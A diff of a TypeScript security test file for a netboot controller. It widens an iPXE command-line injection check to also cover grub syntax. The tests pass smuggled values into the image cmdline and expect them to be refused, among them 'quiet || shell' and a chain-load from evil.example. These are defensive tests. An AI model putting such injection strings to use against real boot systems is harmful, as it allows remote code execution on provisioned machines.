@@ -2,7 +2,7 @@
  * What the controller leaves on disk and puts in iPXE scripts: the data directory is made 0700 at
  * every start (not only when created), console logs are 0600 (also one left with a wider mode),
  * an image file outside the image directory (the first admin's password, via a symlink or `..`)
- * and an image command line with iPXE syntax are refused.
+ * and an image command line with iPXE or grub syntax are refused.
  */
 import { chmodSync, mkdirSync, statSync, symlinkSync, writeFileSync } from 'node:fs';
 import { join } from 'node:path';
@@ -12,7 +12,7 @@ import { startController } from '../../controller/controller.js';
 import { defaultExtensions } from '../../controller/extensions.js';
 import { createLogger } from '../../controller/log.js';
 import { RotatingLog } from '../../controller/console/log-file.js';
-import { ipxeSyntaxIn } from '../../controller/provision/netboot/scripts.js';
+import { scriptSyntaxIn } from '../../controller/provision/netboot/scripts.js';
 import { tempDir } from '../helpers/tmp.js';
 import { startSecureController, type SecureController } from './secure-controller.js';
 
@@ -59,14 +59,14 @@ describe('a real controller', () => {
     await expect(add(join(dir, 'vmlinuz'))).resolves.toMatchObject({ name: 'leak' });
   });
 
-  it('refuses image command lines with iPXE syntax', async () => {
+  it('refuses image command lines with boot script syntax', async () => {
     const dir = join(c.dataDir, 'images');
     mkdirSync(dir, { recursive: true });
     for (const f of ['vmlinuz', 'initrd.img']) writeFileSync(join(dir, f), Buffer.alloc(4096, 1));
     const add = (cmdline: string) => c.admin.request('image-add', { name: 'img', kernel: join(dir, 'vmlinuz'), initrd: join(dir, 'initrd.img'), cmdline, replace: true });
-    await expect(add('quiet || shell')).rejects.toThrow('image img: cmdline: "||" is iPXE syntax');
-    await expect(add('quiet && chain http://evil.example/x.ipxe')).rejects.toThrow('"&&" is iPXE syntax');
-    await expect(add('root=${root-path}')).rejects.toThrow('"$" is iPXE syntax');
+    await expect(add('quiet || shell')).rejects.toThrow('image img: cmdline: "||" is boot script syntax');
+    await expect(add('quiet && chain http://evil.example/x.ipxe')).rejects.toThrow('"&&" is boot script syntax');
+    await expect(add('root=${root-path}')).rejects.toThrow('"$" is boot script syntax');
     await expect(add('console=ttyS0,115200n8 quiet')).resolves.toMatchObject({ name: 'img' });
   });
 });
@@ -98,9 +98,9 @@ describe('console logs', () => {
   });
 });
 
-describe('iPXE syntax', () => {
-  it('finds what iPXE would interpret in a command line', () => {
-    expect(ipxeSyntaxIn('console=ttyS0,115200n8 root=/dev/vda ip=dhcp')).toBeNull();
-    for (const bad of ['a || b', 'a && b', '${x}', 'a|b', 'a&b', 'a="b c"', "a='b'", 'a\\b']) expect(ipxeSyntaxIn(bad), bad).not.toBeNull();
+describe('boot script syntax', () => {
+  it('finds what iPXE or grub would interpret in a command line', () => {
+    expect(scriptSyntaxIn('console=ttyS0,115200n8 root=/dev/vda ip=dhcp')).toBeNull();
+    for (const bad of ['a || b', 'a && b', '${x}', 'a|b', 'a&b', 'a="b c"', "a='b'", 'a\\b', 'a;b', 'a>b', 'a<b', '{a}']) expect(scriptSyntaxIn(bad), bad).not.toBeNull();
   });
 });
